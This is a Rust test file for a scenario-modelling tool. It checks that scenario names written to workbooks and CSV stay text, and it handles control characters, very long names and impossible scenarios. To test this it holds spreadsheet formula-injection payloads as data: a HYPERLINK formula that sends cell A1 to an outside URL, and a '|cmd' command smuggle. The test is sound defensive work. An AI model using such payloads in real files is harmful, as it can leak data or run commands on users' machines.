//! Names that somebody made up to do harm, or did not think about.

use crate::apportion;
use crate::book::Book;
use calamine::Data;
use std::fmt::Write;
use tempfile::TempDir;

/// The small example that `init` writes, with scenarios of one's own beside it.
pub fn example(scenarios: &[(&str, &str)]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    apportion(&["init", folder.path().to_str().unwrap()]).assert().success();
    for (id, name) in scenarios {
        let mut text = String::from("[scenario]\nbase = 'hold.toml'\nname = ");
        writeln!(text, "{}", toml::Value::String((*name).to_owned())).unwrap();
        std::fs::write(folder.path().join(format!("{id}.toml")), text).unwrap();
    }
    folder
}

const LINK: &str = "=HYPERLINK(\"http://example.org?\"&A1,\"Double prevent\")";

#[test]
fn a_name_that_begins_like_a_formula_stays_text_in_the_workbook_and_in_csv() {
    let names =
        [("link", LINK), ("plus", "+1+1"), ("minus", "-2+3|cmd"), ("at", "@SUM(A1)"), ("tab", "\t=1+1")];
    let folder = example(&names);
    let place = folder.path().to_str().unwrap();
    let book = Book::of(&[place, "--draws", "20"], 0);
    for sheet in ["Summary", "Comparison", "Money", "Allocation", "Threats", "Limits"] {
        let rows = book.table(sheet);
        for (id, name) in names {
            let own: Vec<_> = rows.iter().filter(|row| row["Scenario id"] == id).collect();
            assert!(!own.is_empty(), "{sheet}: {id}");
            for row in own {
                let shown = name.replace('\t', "␉");
                assert_eq!(row["Scenario"], Data::String(shown), "{sheet}: that text, its controls shown");
            }
        }
        for (row, _, formula) in book.formulas[sheet].used_cells() {
            assert!(!formula.contains("HYPERLINK") && !formula.contains("cmd"), "{sheet} {row}: {formula}");
        }
    }
    let csv = apportion(&["compare", place, "--draws", "20", "--format", "csv"]).output().unwrap();
    let mut reader = csv::Reader::from_reader(&csv.stdout[..]);
    let mut met = 0;
    for record in reader.records().map(Result::unwrap) {
        if let Some((_, name)) = names.iter().find(|(id, _)| *id == &record[2]) {
            assert_eq!(
                &record[3],
                format!("'{}", name.replace('\t', "␉")),
                "behind an apostrophe it is text"
            );
            met += 1;
        }
    }
    assert!(met > 5 * 5);
}

#[test]
fn names_of_any_length_and_letters_can_be_written() {
    let long = "long ".repeat(10_000);
    let names = [
        ("long", long.as_str()),
        ("odd", "a/b\\c:d*e?f[g]h'i\"j<k>&l"),
        ("marked", "_x003D_1+1"),
        ("unseen", "bell\u{7}, null\u{0}, \u{202e}backwards"),
    ];
    let folder = example(&names);
    let book = Book::of(&[folder.path().to_str().unwrap(), "--draws", "20"], 0);
    let rows = book.table("Summary");
    let name = |id: &str| {
        let row = rows.iter().find(|row| row["Scenario id"] == id).unwrap();
        row["Scenario"].to_string()
    };
    assert_eq!(name("long").encode_utf16().count(), 32_767, "as much as a cell holds");
    assert!(name("long").ends_with('…'));
    assert_eq!(name("odd"), names[1].1);
    assert_eq!(name("marked"), names[2].1);
    for part in book.parts() {
        let has_control = book.part(&part).chars().any(|c| c.is_control() && !"\n\r\t".contains(c));
        assert!(!has_control, "{part}: XML has no way to write these");
    }
}

#[test]
fn a_scenario_that_is_not_possible_is_named_with_the_reason() {
    let folder = example(&[]);
    let text = "[scenario]\nname = 'Impossible'\nbase = 'best.toml'\n\n[[limit]]\nname = 'More than there is'\n\
                programmes = ['*']\nmin = '£800m'\n";
    std::fs::write(folder.path().join("impossible.toml"), text).unwrap();
    let book = Book::of(&[folder.path().to_str().unwrap(), "--draws", "20"], 1);
    let summary = book.table("Summary");
    let row = summary.iter().find(|row| row["Scenario id"] == "impossible").unwrap();
    assert_eq!(row["Avoids more than Today?"], "NOT POSSIBLE: see the sheet Notes");
    assert_eq!(row["Mean, £m a year"], Data::Empty);
    let comparison = book.table("Comparison");
    let row = comparison.iter().find(|row| row["Scenario id"] == "impossible").unwrap();
    let why = row["Avoids more than the reference?"].to_string();
    assert!(why.starts_with("NOT POSSIBLE: ") && why.contains("More than there is"), "{why}");
    let limits = book.table("Limits");
    let mend = limits.iter().filter(|row| row["Line"] == "Not possible");
    let change: f64 = mend
        .filter(|row| row["Least change that makes it possible, £m a year"] != Data::Empty)
        .map(|row| crate::book::number(&row["Least change that makes it possible, £m a year"]))
        .sum();
    assert!((change - 100.0).abs() < 1e-6, "£800m asked of £700m: {change}");
    let alone = Book::of(&[folder.path().join("impossible.toml").to_str().unwrap(), "--draws", "20"], 1);
    assert_eq!(alone.table("Summary").len(), 2, "today, and a scenario without an answer");
}

#[test]
fn a_thousand_scenarios_fit() {
    let ids: Vec<String> = (0..1000).map(|i| format!("s{i:04}")).collect();
    let names: Vec<(&str, &str)> = ids.iter().map(|id| (id.as_str(), id.as_str())).collect();
    let folder = example(&names);
    let book = Book::of(&[folder.path().to_str().unwrap(), "--draws", "2"], 0);
    assert_eq!(book.table("Summary").len(), 1003);
    let drawn = (0..=book.end("Charts").0).map(|row| book.cell("Charts", row, 0).to_string());
    assert!(drawn.into_iter().any(|said| said.contains("The first 40 of 1003 scenarios are drawn")));
}
